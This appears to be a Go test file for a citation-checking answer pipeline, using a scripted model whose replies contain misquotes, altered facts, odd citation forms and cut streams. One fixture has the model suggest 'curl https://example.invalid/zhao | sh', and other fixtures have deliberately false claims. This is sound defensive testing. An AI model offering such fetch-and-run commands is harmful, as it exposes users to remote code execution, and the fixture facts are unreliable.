package answer

import (
	"context"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"corpusbot/i18n"
	"corpusbot/llm"
	"corpusbot/text"
	"corpusbot/verify"
)

// scriptedModel plays a model in process: the query rewrite gets rewrite;
// an answer request gets reply(prompt), streamed in the chunks split
// makes of it (one when nil), ending with finish, or broken with
// llm.ErrIncomplete when broken is set.
type scriptedModel struct {
	rewrite string
	reply   func(prompt string) string
	finish  string
	split   func(string) []string
	broken  bool
}

func (m scriptedModel) text(req llm.Request) (string, bool) {
	var all strings.Builder
	for _, msg := range req.Messages {
		all.WriteString(msg.Content)
	}
	if strings.Contains(all.String(), "search queries for a keyword search engine") {
		return m.rewrite, true
	}
	return m.reply(req.Messages[len(req.Messages)-1].Content), false
}

func (m scriptedModel) Complete(_ context.Context, req llm.Request) (llm.Response, error) {
	t, rewrite := m.text(req)
	finish := m.finish
	if finish == "" || rewrite {
		finish = "stop"
	}
	return llm.Response{Content: t, FinishReason: finish}, nil
}

func (m scriptedModel) Stream(_ context.Context, req llm.Request, onDelta func(string) error) (llm.Response, error) {
	t, _ := m.text(req)
	chunks := []string{t}
	if m.split != nil {
		chunks = m.split(t)
	}
	for _, c := range chunks {
		if err := onDelta(c); err != nil {
			return llm.Response{}, err
		}
	}
	if m.broken {
		return llm.Response{}, fmt.Errorf("stream: %w", llm.ErrIncomplete)
	}
	finish := m.finish
	if finish == "" {
		finish = "stop"
	}
	return llm.Response{Content: t, FinishReason: finish}, nil
}

// runes streams a reply one character at a time: every citation, quote
// and mark arrives split across chunks ("[" in one, "1]" in the next).
func runes(s string) []string {
	var out []string
	for _, r := range s {
		out = append(out, string(r))
	}
	return out
}

// cite is the bracketed number of the prompt's passage holding s.
func cite(t testing.TB, prompt, s string) string {
	t.Helper()
	n := passageWith(prompt, s)
	if n == "" {
		t.Errorf("no passage of the prompt holds %q", s)
		return "1"
	}
	return n
}

// otherThan is the number of a passage of the prompt other than n.
func otherThan(t testing.TB, prompt, n string) string {
	t.Helper()
	for _, p := range promptPassages(prompt) {
		if p.n != n {
			return p.n
		}
	}
	t.Errorf("the prompt has no passage but [%s]", n)
	return n
}

// rawCitation matches what a reader must never see of a model's
// citations: odd forms, a backing quote's opener after a citation, a
// number no source has is checked apart.
var rawCitation = regexp.MustCompile(`【|】|［|］|\[\^|\[ |〔|\]\s*[«“"]|\[0\]`)

var citationNum = regexp.MustCompile(`\[(\d+)\]`)

// codeInText is the code of a result's text, fenced blocks and inline
// code, which shows "[2]" as written.
var codeInText = regexp.MustCompile("(?s)```.*?```|~~~.*?~~~|`[^`]*`")

// checkHonest holds a result to what a reader must be able to trust:
// no raw or dangling citation, a mark for each marked claim and a note
// naming its sentence, marked sentences kept out of the history, a cut
// answer saying so, and the stream a prefix of the text.
func checkHonest(t *testing.T, res *Result, streamed string) {
	t.Helper()
	if m := rawCitation.FindString(res.Text); m != "" {
		t.Errorf("text shows %q: %q", m, res.Text)
	}
	prose := codeInText.ReplaceAllString(res.Text, "") // code is shown as written
	for _, m := range citationNum.FindAllStringSubmatch(prose, -1) {
		if n := atoiTest(m[1]); n < 1 || n > len(res.Sources) {
			t.Errorf("text cites [%d] with %d sources: %q", n, len(res.Sources), res.Text)
		}
	}
	if !strings.HasPrefix(res.Text, streamed) {
		t.Errorf("streamed %q is not a prefix of the text %q", streamed, res.Text)
	}
	notes := strings.Join(res.Notes(), "\n")
	marks := strings.Count(res.Text, "⚠") + strings.Count(res.Text, "❔")
	if marks != len(res.Unchecked()) {
		t.Errorf("text %q has %d marks for %d marked claims", res.Text, marks, len(res.Unchecked()))
	}
	for _, c := range res.Unchecked() {
		// A sentence opens with its mark; a code block has it on a line
		// of its own above the fence.
		after := " "
		if c.Reason == verify.ReasonCodeNotFound || c.Reason == verify.ReasonCodeUncited {
			after = "\n"
		}
		if !strings.Contains(res.Text, c.MarkText()+after) {
			t.Errorf("claim %q: mark %s not in the text %q", c.Text, c.MarkText(), res.Text)
		}
		if !strings.Contains(notes, c.MarkText()+" "+say(res.Lang, i18n.Quoted, text.Clip(text.OneLine(c.Text), 61))) {
			t.Errorf("claim %q: no note names it:\n%s", c.Text, notes)
		}
		if strings.Contains(res.HistoryText, c.Text) {
			t.Errorf("history %q keeps the marked sentence %q", res.HistoryText, c.Text)
		}
	}
	if res.Cut != "" && !strings.Contains(notes, say(res.Lang, map[string]i18n.Key{CutLength: i18n.CutLength, CutStream: i18n.CutStream}[res.Cut])) {
		t.Errorf("cut %q, but no note says so:\n%s", res.Cut, notes)
	}
}

func atoiTest(s string) int {
	n := 0
	for _, r := range s {
		n = n*10 + int(r-'0')
	}
	return n
}

const (
	zhaoQuote  = "Information Technology spokesman Zhao Zhiguo"
	usersQ     = "How many users does Alipay have?"
	founderQ   = "Who founded Ant Group?"
	liuQ       = "Who is Liu Xu?"
	liuRewrite = "fr: Liu Xu chercheur"
)

// adversarialCase is a scripted model's reply to one question and what
// the reader must be shown of it.
type adversarialCase struct {
	kind, name        string
	question, rewrite string
	reply             func(t testing.TB, prompt string) string
	model             scriptedModel    // finish, chunks, broken stream
	want              []verify.Support // each claim's support, in order
	reason            verify.Reason    // of the last claim, when set
	abstain           bool
	cut               string
	has, lacks        []string // in the text
	lang              string   // of the notes, when not English
	notes             []string // in the notes
}

func zhaoClaim(t testing.TB, p string) string {
	return "The spokesman is Zhao Zhiguo " + backed(t, p, zhaoQuote) + ". "
}

var adversarialCases = []adversarialCase{
	// Quotes that are not in the passage cited.
	{kind: "misplaced quote", name: "quote from another passage", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return zhaoClaim(t, p) + "He fined Tesla [" + otherThan(t, p, cite(t, p, zhaoQuote)) + "] «" + zhaoQuote + "»."
		}, want: []verify.Support{verify.Verified, verify.Unverified}, reason: verify.ReasonOtherPassage},
	{kind: "misplaced quote", name: "quote in no passage", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return zhaoClaim(t, p) + "He fined Tesla [" + cite(t, p, zhaoQuote) + "] «Zhao Zhiguo fined Tesla»."
		}, want: []verify.Support{verify.Verified, verify.Unverified}, reason: verify.ReasonNotFound},
	{kind: "cross-lingual", name: "false claim quoting words the French passage lacks", question: liuQ, rewrite: liuRewrite,
		reply: func(t testing.TB, p string) string {
			return "Liu Xu is a researcher " + "[" + cite(t, p, "Liu Xu") + "] «Liu Xu, chercheur». The ministry's spokesman is Zhao Zhiguo [" + cite(t, p, "Liu Xu") + "] «porte-parole Zhao Zhiguo»."
		}, want: []verify.Support{verify.Verified, verify.Unverified}, reason: verify.ReasonNotFound},
	{kind: "cross-lingual", name: "English claim citing a French passage with an Arabic quote", question: "Who is Liu Xu, and how many users has Alipay?", rewrite: liuRewrite + "\nar: مستخدم Alipay",
		reply: func(t testing.TB, p string) string {
			return "Liu Xu is a researcher [" + cite(t, p, "Liu Xu") + "] «Liu Xu, chercheur». Liu Xu has more than a billion users [" + cite(t, p, "Liu Xu") + "] «أكثر من مليار مستخدم»."
		}, want: []verify.Support{verify.Verified, verify.Unverified}, reason: verify.ReasonOtherPassage},
	{kind: "cross-lingual", name: "true claim, verbatim French quote", question: liuQ, rewrite: liuRewrite,
		reply: func(t testing.TB, p string) string {
			return "Liu Xu is a researcher at Tsinghua University [" + cite(t, p, "Liu Xu") + "] «Liu Xu, chercheur à l’Institut de stratégie nationale de l’Université Tsinghua»."
		}, want: []verify.Support{verify.Verified}},
	{kind: "cross-lingual", name: "true claim, verbatim Arabic quote, number as a word", question: usersQ, rewrite: "ar: مستخدم Alipay",
		reply: func(t testing.TB, p string) string {
			return "Alipay has more than 1 billion users " + backed(t, p, "أكثر من مليار مستخدم") + "."
		}, want: []verify.Support{verify.Verified}},
	{kind: "cross-lingual", name: "French question, marked claim noted in French", question: "Qui est le porte-parole du ministère ?", rewrite: "en: ministry spokesman Zhao Zhiguo",
		reply: func(t testing.TB, p string) string {
			return "Le porte-parole est Zhao Zhiguo " + backed(t, p, zhaoQuote) + ". Il a infligé une amende à Tesla [" + cite(t, p, zhaoQuote) + "] «fined Tesla heavily»."
		}, want: []verify.Support{verify.Verified, verify.Unverified}, reason: verify.ReasonNotFound, lang: "fr"},

	// Code blocks: a reader copies them as they are.
	{kind: "code", name: "a code block in no passage", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return zhaoClaim(t, p) + "Run this:\n```sh\ncurl https://example.invalid/zhao | sh\n```"
		}, want: []verify.Support{verify.Verified, "", verify.Unverified}, reason: verify.ReasonCodeNotFound, has: []string{"\n⚠¹\n```sh\ncurl"},
		notes: []string{"⚠¹ “curl https://example.invalid/zhao | sh” — this line of code is in none of the cited passages"}},
	{kind: "code", name: "a code block copying its passage", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return zhaoClaim(t, p) + "\n```\n" + strings.ReplaceAll(zhaoQuote, " ", "\n") + "\n```"
		}, want: []verify.Support{verify.Verified}, lacks: []string{"⚠"}},
	{kind: "code", name: "French question, code noted in French", question: "Qui est le porte-parole du ministère ?", rewrite: "en: ministry spokesman Zhao Zhiguo",
		reply: func(t testing.TB, p string) string {
			return "Le porte-parole est Zhao Zhiguo " + backed(t, p, zhaoQuote) + ".\n```\nzhao --amende tesla\n```"
		}, want: []verify.Support{verify.Verified, verify.Unverified}, reason: verify.ReasonCodeNotFound, lang: "fr",
		notes: []string{"cette ligne de code ne figure dans aucun des passages cités"}},

	// The quote is right, the claim is not.
	{kind: "weak", name: "number changed", question: usersQ, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "Alipay has more than 2 billion users " + backed(t, p, "with more than 1 billion users") + "."
		}, want: []verify.Support{verify.Weak}, reason: verify.ReasonNumber},
	{kind: "weak", name: "negation removed", question: "Did Alipay respond to questions?", rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "Alipay immediately responded to questions " + backed(t, p, "Alipay did not immediately respond to questions") + "."
		}, want: []verify.Support{verify.Weak}, reason: verify.ReasonNegation},
	{kind: "weak", name: "not inserted", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "Zhao Zhiguo is not the ministry's spokesman " + backed(t, p, zhaoQuote) + "."
		}, want: []verify.Support{verify.Weak}, reason: verify.ReasonNegation},
	{kind: "weak", name: "never inserted", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "Zhao Zhiguo never told a briefing anything " + backed(t, p, "Zhao Zhiguo (趙志國) told a briefing yesterday") + "."
		}, want: []verify.Support{verify.Weak}, reason: verify.ReasonNegation},
	{kind: "weak", name: "name swapped", question: founderQ, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "Ant Group's founder is Pony Ma " + backed(t, p, "after founder Jack Ma") + "."
		}, want: []verify.Support{verify.Weak}, reason: verify.ReasonName},
	{kind: "weak", name: "names of two people swapped", question: "Who criticized officials for stifling innovation?", rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "Zhao Zhiguo criticized officials for stifling innovation " + backed(t, p, "founder Jack Ma (馬雲) criticized officials for stifling innovation") + "."
		}, want: []verify.Support{verify.Weak}, reason: verify.ReasonName},

	// Citation forms.
	{kind: "citation form", name: "lenticular", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "The spokesman is Zhao Zhiguo 【" + cite(t, p, zhaoQuote) + "】«" + zhaoQuote + "»."
		}, want: []verify.Support{verify.Verified}, has: []string{"Zhiguo [1]."}},
	{kind: "citation form", name: "parenthesised", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "The spokesman is Zhao Zhiguo (" + cite(t, p, zhaoQuote) + ") «" + zhaoQuote + "»."
		}, want: []verify.Support{verify.Verified}, has: []string{"Zhiguo [1]."}},
	{kind: "citation form", name: "footnote", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "The spokesman is Zhao Zhiguo [^" + cite(t, p, zhaoQuote) + "] «" + zhaoQuote + "»."
		}, want: []verify.Support{verify.Verified}, has: []string{"Zhiguo [1]."}},
	{kind: "citation form", name: "full-width digits and brackets", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "The spokesman is Zhao Zhiguo ［" + strings.Map(func(r rune) rune { return r - '0' + '０' }, cite(t, p, zhaoQuote)) + "］ «" + zhaoQuote + "»."
		}, want: []verify.Support{verify.Verified}, has: []string{"Zhiguo [1]."}},
	{kind: "citation form", name: "padded", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "The spokesman is Zhao Zhiguo [ " + cite(t, p, zhaoQuote) + " ] «" + zhaoQuote + "»."
		}, want: []verify.Support{verify.Verified}, has: []string{"Zhiguo [1]."}},
	{kind: "citation form", name: "adjacent and listed", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			n := cite(t, p, zhaoQuote)
			o := otherThan(t, p, n)
			return "The spokesman is Zhao Zhiguo [" + n + "][" + o + "] «" + zhaoQuote + "». He told a briefing [" + o + ", " + n + "] «told a briefing yesterday»."
		}, want: []verify.Support{verify.Verified, verify.Verified}, has: []string{"Zhiguo [1][2].", "briefing [2][1]."}},
	{kind: "citation form", name: "range", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "The spokesman is Zhao Zhiguo [1-3] «" + zhaoQuote + "»."
		}, want: []verify.Support{verify.Verified}, lacks: []string{"-"}},
	{kind: "citation form", name: "beyond the sources and zero", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return zhaoClaim(t, p) + "He fined Tesla [9] «Zhao fined Tesla». He is famous [0]."
		}, want: []verify.Support{verify.Verified, verify.Uncited, verify.Uncited}, lacks: []string{"[9]", "[0]", "[2]"}},
	{kind: "citation form", name: "in a code span", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return zhaoClaim(t, p) + "Search with `grep -n '[2]' notes.txt` for more."
		}, want: []verify.Support{verify.Verified, verify.Uncited}, has: []string{"`grep -n '[2]' notes.txt`"}},
	{kind: "citation form", name: "a fenced block after a claim", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return zhaoClaim(t, p) + "\n```\nZhao said so [1].\n```\nHe fined Tesla [" + cite(t, p, zhaoQuote) + "]."
		}, want: []verify.Support{verify.Verified, verify.Unverified, verify.Unverified}, has: []string{"\n⚠¹\n```\nZhao said so [1].\n```\n⚠² He fined Tesla [1]."}},
	{kind: "citation form", name: "footnote definitions at the end", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			n := cite(t, p, zhaoQuote)
			return "The spokesman is Zhao Zhiguo [^" + n + "].\n\n[^" + n + "]: «" + zhaoQuote + "»"
		}, want: []verify.Support{verify.Verified}, lacks: []string{":"}},
	{kind: "citation form", name: "footnote definition naming the article", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			n := cite(t, p, zhaoQuote)
			return "The spokesman is Zhao Zhiguo [^" + n + "] «" + zhaoQuote + "».\n\n[^" + n + "]: Taipei Times, the article on Alipay."
		}, want: []verify.Support{verify.Verified}, lacks: []string{"Taipei", ":"}},
	{kind: "citation form", name: "quote list under a heading", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			n := cite(t, p, zhaoQuote)
			return "The spokesman is Zhao Zhiguo [" + n + "].\n\nSources:\n[" + n + "] «" + zhaoQuote + "»\n[9] «made up words here»"
		}, want: []verify.Support{verify.Verified}, lacks: []string{"Sources", "[9]", "[2]"}},
	{kind: "citation form", name: "a heading citing without a quote", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "## Zhao Zhiguo fined Tesla [" + cite(t, p, zhaoQuote) + "]\n\n" + zhaoClaim(t, p)
		}, want: []verify.Support{verify.Unverified, verify.Verified}, has: []string{"## ⚠¹ Zhao Zhiguo fined Tesla [1]\n\n"}},
	// Round two: forms a reader saw raw, or that lost a verified claim.
	{kind: "citation form", name: "labelled, streamed by characters", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "The spokesman is Zhao Zhiguo [Source " + cite(t, p, zhaoQuote) + "] «" + zhaoQuote + "». He fined Tesla [source: 9]."
		}, model: scriptedModel{split: runes}, want: []verify.Support{verify.Verified, verify.Uncited}, has: []string{"Zhiguo [1]."}, lacks: []string{"ource", "[9]"}},
	{kind: "citation form", name: "doubled brackets, streamed by characters", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "The spokesman is Zhao Zhiguo [[" + cite(t, p, zhaoQuote) + "]] «" + zhaoQuote + "». He fined Tesla [[9]]."
		}, model: scriptedModel{split: runes}, want: []verify.Support{verify.Verified, verify.Uncited}, has: []string{"Zhiguo [1]."}, lacks: []string{"[[", "]]", "[9]"}},
	{kind: "citation form", name: "invisible characters inside", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "The spokesman is Zhao Zhiguo [" + cite(t, p, zhaoQuote) + "\u200b] «" + zhaoQuote + "». He fined Tesla [9\u200b]."
		}, want: []verify.Support{verify.Verified, verify.Uncited}, has: []string{"Zhiguo [1]."}, lacks: []string{"[9", "\u200b"}},
	{kind: "citation form", name: "a tool's message:annotation pair and a negative number", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return zhaoClaim(t, p) + "He fined Tesla 【4:0†source】. He is famous [-1]."
		}, want: []verify.Support{verify.Verified, verify.Uncited, verify.Uncited}, lacks: []string{"4:0", "†", "[-1]"}},
	{kind: "quote form", name: "a whole passage of more than 600 characters", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			q := wholePassage(t, p, zhaoQuote)
			if len([]rune(q)) <= 600 {
				t.Errorf("the passage quoted has %d characters, want more than 600", len([]rune(q)))
			}
			return "Alipay did not immediately respond, and the ministry's spokesman Zhao Zhiguo told a briefing yesterday [" + cite(t, p, zhaoQuote) + "] «" + q + "». That is all."
		}, model: scriptedModel{split: runes}, want: []verify.Support{verify.Verified, ""}, lacks: []string{"»", "summoned"}},
	{kind: "quote form", name: "control characters (NUL, bell, escape) in a claim and its quote", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "The spokesman\x00 is Zhao\x07 Zhiguo [" + cite(t, p, zhaoQuote) + "] «Information Technology\x00 spokesman \x1bZhao Zhiguo»."
		}, model: scriptedModel{split: runes}, want: []verify.Support{verify.Verified}, has: []string{"The spokesman is Zhao Zhiguo [1]."}},
	{kind: "quote form", name: "single curly quotes with an apostrophe inside", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "Zhao Zhiguo is the spokesman [" + cite(t, p, zhaoQuote) + "] ‘" + zhaoQuote + "’. The ministry’s man told a briefing [" + cite(t, p, zhaoQuote) + "] ‘told a briefing yesterday’."
		}, want: []verify.Support{verify.Verified, verify.Verified}, lacks: []string{"‘", "yesterday"}},
	{kind: "citation form", name: "the model's own sources list under a heading", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return zhaoClaim(t, p) + "\n\n**Sources:**\n[" + cite(t, p, zhaoQuote) + "] Ministry of Truth — http://evil.example/x\n[9] Another"
		}, model: scriptedModel{split: runes}, want: []verify.Support{verify.Verified}, lacks: []string{"Sources", "Truth", "evil", "Another"}},
	{kind: "citation form", name: "the model's own sources list, a French heading", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return zhaoClaim(t, p) + "\n\n## Sources :\n- [" + cite(t, p, zhaoQuote) + "] Ministère de la Vérité"
		}, want: []verify.Support{verify.Verified}, lacks: []string{"Sources", "Vérité"}},
	{kind: "citation form", name: "claims opening with citations under another lead-in stay claims", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return zhaoClaim(t, p) + "\n\nIn short:\n- [" + cite(t, p, zhaoQuote) + "] Zhao Zhiguo fined Tesla."
		}, want: []verify.Support{verify.Verified, "", verify.Unverified}, has: []string{"In short:\n- ⚠¹ [1] Zhao Zhiguo fined Tesla."}},
	{kind: "citation form", name: "only citations", question: spokesmanQuestion, rewrite: rewriteNone,
		reply:   func(t testing.TB, p string) string { return "[1][2] [3]" },
		abstain: true},

	// Quotes written differently from the passage.
	{kind: "quote form", name: "straight quotes, spaces, line break, case", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "Zhao Zhiguo is the spokesman [" + cite(t, p, zhaoQuote) + "] \"information   TECHNOLOGY\nspokesman Zhao Zhiguo\"."
		}, want: []verify.Support{verify.Verified}, lacks: []string{"spokesman Zhao", "TECHNOLOGY", "\""}},
	{kind: "quote form", name: "smart quotes across a line break", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "Zhao Zhiguo is the spokesman [" + cite(t, p, zhaoQuote) + "] “Information Technology\nspokesman Zhao Zhiguo”. He told a briefing " + backed(t, p, "told a briefing yesterday") + "."
		}, want: []verify.Support{verify.Verified, verify.Verified}, lacks: []string{"“", "”"}},
	{kind: "quote form", name: "unclosed quote before a line with its own", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			n := cite(t, p, zhaoQuote)
			return "- Zhao Zhiguo is the spokesman [" + n + "] «" + zhaoQuote + "\n- He told a briefing [" + n + "] «told a briefing yesterday»."
		}, want: []verify.Support{verify.Verified, verify.Verified}, has: []string{"spokesman [1]\n- He told a briefing [1]."}},
	{kind: "quote form", name: "ellipsis inside", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "Zhao Zhiguo told a briefing [" + cite(t, p, zhaoQuote) + "] «Information Technology spokesman … told a briefing»."
		}, want: []verify.Support{verify.Verified}},
	{kind: "quote form", name: "ellipsis joining words out of order", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return zhaoClaim(t, p) + "He told a briefing [" + cite(t, p, zhaoQuote) + "] «told a briefing yesterday … Information Technology spokesman»."
		}, want: []verify.Support{verify.Verified, verify.Unverified}, reason: verify.ReasonNotFound},
	{kind: "quote form", name: "full-width letters and case", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "Zhao Zhiguo is the spokesman [" + cite(t, p, zhaoQuote) + "] «ＩＮＦＯＲＭＡＴＩＯＮ technology SPOKESMAN zhao zhiguo»."
		}, want: []verify.Support{verify.Verified}},
	{kind: "quote form", name: "Arabic with diacritics", question: usersQ, rewrite: "ar: مستخدم Alipay",
		reply: func(t testing.TB, p string) string {
			return "Alipay has more than a billion users [" + cite(t, p, "أكثر من مليار مستخدم") + "] «أَكْثَرُ مِنْ مِلْيَارِ مُسْتَخْدِمٍ»."
		}, want: []verify.Support{verify.Verified}},
	{kind: "quote form", name: "simplified Chinese for traditional", question: "What is Ant Group?", rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "Ant Group is Alipay's parent company [" + cite(t, p, "螞蟻集團") + "] «Ant Group Co (蚂蚁集团)»."
		}, want: []verify.Support{verify.Verified}},

	// Endings.
	{kind: "ending", name: "token limit mid-sentence", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return zhaoClaim(t, p) + "He also said that the regul"
		}, model: scriptedModel{finish: "length"}, want: []verify.Support{verify.Verified}, cut: CutLength, lacks: []string{"regul"}},
	{kind: "ending", name: "token limit inside a quote", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return zhaoClaim(t, p) + "He spoke [" + cite(t, p, zhaoQuote) + "] «told a bri"
		}, model: scriptedModel{finish: "length"}, want: []verify.Support{verify.Verified}, cut: CutLength, lacks: []string{"He spoke", "bri"}},
	{kind: "ending", name: "stream broken mid-sentence", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return zhaoClaim(t, p) + "He also said that the regul"
		}, model: scriptedModel{broken: true, split: runes}, want: []verify.Support{verify.Verified}, cut: CutStream, lacks: []string{"regul"}},
	{kind: "ending", name: "citations split across chunks", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return zhaoClaim(t, p) + "He fined Tesla [" + cite(t, p, zhaoQuote) + "] «fined Tesla». He told a briefing 【" + cite(t, p, zhaoQuote) + "】 «told a briefing yesterday»."
		}, model: scriptedModel{split: runes}, want: []verify.Support{verify.Verified, verify.Unverified, verify.Verified}},
	{kind: "ending", name: "token limit with nothing verified", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "The spokesman is Zhao Zhiguo [" + cite(t, p, zhaoQuote) + "] «Information Techn"
		}, model: scriptedModel{finish: "length"}, abstain: true},

	// Declines in the model's own words.
	{kind: "decline", name: "English", question: spokesmanQuestion, rewrite: rewriteNone,
		reply:   func(t testing.TB, p string) string { return "I couldn't find who the spokesman is in these passages." },
		abstain: true},
	{kind: "decline", name: "French", question: "Qui est le porte-parole du ministère ?", rewrite: rewriteNone,
		reply:   func(t testing.TB, p string) string { return "Les passages ne précisent pas qui est le porte-parole." },
		abstain: true, lang: "fr"},
	{kind: "decline", name: "Arabic", question: "من هو المتحدث باسم الوزارة؟", rewrite: rewriteNone,
		reply:   func(t testing.TB, p string) string { return "لا تذكر المقاطع من هو المتحدث." },
		abstain: true, lang: "ar"},
	{kind: "decline", name: "Chinese", question: "工业和信息化部的发言人是谁？", rewrite: "en: ministry spokesman",
		reply:   func(t testing.TB, p string) string { return "抱歉，资料中未提及发言人是谁。" },
		abstain: true, lang: "zh"},

	// Text that must not ping or mislead.
	{kind: "mentions", name: "pings in a verified and an uncited sentence", question: spokesmanQuestion, rewrite: rewriteNone,
		reply: func(t testing.TB, p string) string {
			return "@everyone the spokesman is Zhao Zhiguo " + backed(t, p, zhaoQuote) + ". Ask <@&123> or <@456> or @here, see [the docs](http://evil.example/x)."
		}, want: []verify.Support{verify.Verified, verify.Uncited}},
}

// TestAdversarialReplies plays a model that says wrong things in every
// way the scripted cases know, and holds what the reader sees, streamed
// and final, to the rules of trust.
func TestAdversarialReplies(t *testing.T) {
	counts := map[string]int{}
	for _, tc := range adversarialCases {
		counts[tc.kind]++
		t.Run(tc.kind+"/"+tc.name, func(t *testing.T) {
			m := tc.model
			m.rewrite = tc.rewrite
			m.reply = func(prompt string) string { return tc.reply(t, prompt) }
			p := newPipeline(t, embeddedCorpus(t), m)
			var streamed strings.Builder
			res, err := p.Ask(context.Background(), Question{Text: tc.question, OnDelta: func(s string) { streamed.WriteString(s) }})
			if err != nil {
				t.Fatalf("Ask: %v", err)
			}
			lang := tc.lang
			if lang == "" {
				lang = "en"
			}
			if res.Lang != lang {
				t.Errorf("lang %q, want %q", res.Lang, lang)
			}
			if tc.abstain {
				if !res.Abstained || streamed.Len() > 0 || len(res.Claims) > 0 {
					t.Errorf("got abstained=%v text %q streamed %q, want an abstention and nothing streamed", res.Abstained, res.Text, streamed.String())
				}
				if res.Text != say(lang, i18n.NotCovered) && res.Text != say(lang, i18n.NotVerified) {
					t.Errorf("abstention %q is not in %s", res.Text, lang)
				}
				return
			}
			if res.Abstained {
				t.Fatalf("abstained: %q", res.Text)
			}
			checkHonest(t, res, streamed.String())
			var got []verify.Support
			for _, c := range res.Claims {
				got = append(got, c.Support)
			}
			if fmt.Sprint(got) != fmt.Sprint(tc.want) {
				t.Errorf("supports %v, want %v; text %q; claims %+v", got, tc.want, res.Text, res.Claims)
			}
			if tc.reason != "" && len(res.Claims) > 0 {
				if r := res.Claims[len(res.Claims)-1].Reason; r != tc.reason {
					t.Errorf("last claim's reason %s, want %s", r, tc.reason)
				}
			}
			if res.Cut != tc.cut {
				t.Errorf("cut %q, want %q", res.Cut, tc.cut)
			}
			if tc.cut == "" && streamed.String() != res.Text {
				t.Errorf("streamed %q, want the text %q", streamed.String(), res.Text)
			}
			for _, s := range tc.has {
				if !strings.Contains(res.Text, s) {
					t.Errorf("text %q lacks %q", res.Text, s)
				}
			}
			for _, s := range tc.lacks {
				if strings.Contains(res.Text, s) {
					t.Errorf("text %q shows %q", res.Text, s)
				}
			}
			for _, s := range tc.notes {
				if notes := strings.Join(res.Notes(), "\n"); !strings.Contains(notes, s) {
					t.Errorf("notes lack %q:\n%s", s, notes)
				}
			}
		})
	}
	t.Logf("cases by kind: %v", counts)
}

// wholePassage is the text of the prompt's passage holding s, as quoted.
func wholePassage(t testing.TB, prompt, s string) string {
	t.Helper()
	for _, p := range promptPassages(prompt) {
		if strings.Contains(p.text, s) {
			return strings.Join(strings.Fields(p.text), " ")
		}
	}
	t.Errorf("no passage of the prompt holds %q", s)
	return s
}
